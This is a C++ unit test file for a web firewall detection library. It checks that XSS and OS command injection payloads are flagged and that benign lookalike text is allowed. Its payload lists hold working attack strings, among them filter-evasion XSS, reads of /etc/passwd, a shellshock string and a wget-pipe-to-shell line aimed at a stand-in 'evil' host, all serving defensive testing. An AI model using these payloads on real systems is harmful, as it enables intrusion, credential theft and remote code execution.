// XSS and OS command injection, end to end through the default profile.
#include <string>

#include "gtest/gtest.h"
#include "libs/detect/test_util.h"

namespace shieldx::detect {
namespace {

using testing::Flagged;
using testing::HasCategory;
using testing::InspectQueryValue;

class XssAttack : public ::testing::TestWithParam<const char*> {};
TEST_P(XssAttack, IsBlockedAsXss) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_TRUE(Flagged(v)) << GetParam();
  EXPECT_TRUE(HasCategory(v, Category::kXss)) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    Payloads, XssAttack,
    ::testing::Values(
        "<script>alert(1)</script>", "<ScRiPt src=//evil.js></script>",
        "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "\"><img src=x onerror=prompt(document.domain)>", "\" onmouseover=\"alert(1)",
        "' autofocus onfocus=alert(1) x='", "javascript:alert(document.cookie)",
        "java&#x09;script:alert(1)", "<a href=\"jAvAsCrIpT&colon;alert&lpar;1&rpar;\">x</a>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",  // double encoding
        "\xef\xbc\x9cscript\xef\xbc\x9e"
        "alert(1)\xef\xbc\x9c/script\xef\xbc\x9e",  // full width
        "';alert(String.fromCharCode(88,83,83))//", "top['al'+'ert'](1)", "alert.call(null,1)",
        "document[\"cookie\"]", "<div style=\"width:expression(alert(1))\">",
        "\\u003cimg src=x onerror=alert(1)\\u003e", "\"autof<x>ocus o<x>nfocus=alert<x>(1)//"));

class XssBenign : public ::testing::TestWithParam<const char*> {};
TEST_P(XssBenign, IsAllowed) { EXPECT_FALSE(Flagged(InspectQueryValue(GetParam()))) << GetParam(); }
INSTANTIATE_TEST_SUITE_P(Text, XssBenign,
                         ::testing::Values("a < b and c > d",
                                           "JavaScript: Basics of JavaScript Language",
                                           "<b>bold</b> text", "if x<3 then y",
                                           "the onion=3 recipe", "x <script is incorrect here",
                                           "https://example.com/?a=1&b=<2>",
                                           "\xe4\xbd\xa0\xe5\xa5\xbd\xef\xbc\x81"));

class CmdiAttack : public ::testing::TestWithParam<const char*> {};
TEST_P(CmdiAttack, IsBlockedAsCommandInjection) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_TRUE(Flagged(v)) << GetParam();
  EXPECT_TRUE(HasCategory(v, Category::kCmdi)) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    Payloads, CmdiAttack,
    ::testing::Values("; cat /etc/passwd", "a|id", "x && whoami", "`id`", "$(uname -a)",
                      "127.0.0.1; ping -c 3 evil.com", "; w'h'o'am'i", ";c\\at /etc/hosts",
                      ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}",
                      "| /\?\?\?/c?t /etc/hosts", "& ping -n 30 127.0.0.1 &", "| dir c:\\",
                      "; w^h^o^a^m^i", "() { :; }; /bin/bash -c id", "/bin/sh -c 'id'",
                      "|wget http://evil/x.sh -O- | sh", "IF EXIST c:\\boot.ini echo yes"));

class CmdiBenign : public ::testing::TestWithParam<const char*> {};
TEST_P(CmdiBenign, IsAllowed) {
  EXPECT_FALSE(Flagged(InspectQueryValue(GetParam()))) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    Text, CmdiBenign,
    ::testing::Values("echo in the mirror", "curl and divergence", "ls 300 lexus",
                      "nc 8000 controller", "bash away in the gym", "Tom & Jerry",
                      "salt & pepper; cat food", "please post the output of `cat /etc/fstab`",
                      "what happens if you type \"lspci | grep network\" into the terminal?",
                      "R&D | sales | support"));

}  // namespace
}  // namespace shieldx::detect
